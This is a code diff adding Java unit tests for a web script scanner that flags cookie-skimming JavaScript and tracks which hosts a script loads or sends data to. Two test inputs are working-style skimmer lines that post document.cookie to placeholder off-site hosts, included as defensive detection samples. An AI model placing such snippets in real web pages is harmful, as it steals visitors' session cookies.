@@ -268,4 +268,29 @@ class ScriptScannerTest {
           "web.redirect-search-referrer", "web.defacement", "web.fake-update");
     }
   }
+
+  @Test
+  void cookiesHandedToAnOffSiteSendAreTheft() {
+    assertThat(fileChecks("jQuery(function($){$.post('https://telemetry.example/in',{h:location.href,c:document.cookie})});"))
+        .contains("web.skimmer");
+    assertThat(checks("new Image().src='//203.0.113.9/c.php?c='+encodeURIComponent(document.cookie);")).contains("web.skimmer");
+    // the site's own endpoint, or a mainstream platform, is not theft; nor is reading a cookie without sending it there
+    assertThat(checks("fetch('/wp-json/stats/v1/hit',{method:'POST',body:document.cookie});")).doesNotContain("web.skimmer");
+    assertThat(checks("var c=document.cookie.indexOf('consent=')>=0;fetch('https://api.example.net/v1/news')"
+        + ".then(function(r){return r.json()});")).doesNotContain("web.skimmer");
+  }
+
+  @Test
+  void slashEscapedJsonAndScriptUrlsInInlineConfigs() {
+    ScriptScanner.Result cfg = scanner.scan("var wpch_cfg={\"u\":\"https:\\/\\/helper-stats.example\\/c.js\","
+        + "\"api\":\"https:\\/\\/api.example.net\\/v1\\/\"};", PAGE);
+    assertThat(cfg.hostsMentioned()).contains("helper-stats.example", "api.example.net");
+    assertThat(cfg.loads()).extracting(URI::getHost).containsExactly("helper-stats.example");
+    // a library file quoting a script address is not loading it
+    assertThat(scanner.scan("var docs='https://cdn.example.org/plugin.js';", PAGE, true).loads()).isEmpty();
+    // what a file hands straight to a send call is kept apart from URLs it merely names
+    ScriptScanner.Result file = scanner.scan("var cfg={url:'https://docs.example.org/'};navigator.sendBeacon("
+        + "'https://beacon.example.net/b',JSON.stringify({p:location.pathname}));", PAGE, true);
+    assertThat(file.sentTo()).extracting(URI::getHost).containsExactly("beacon.example.net");
+  }
 }
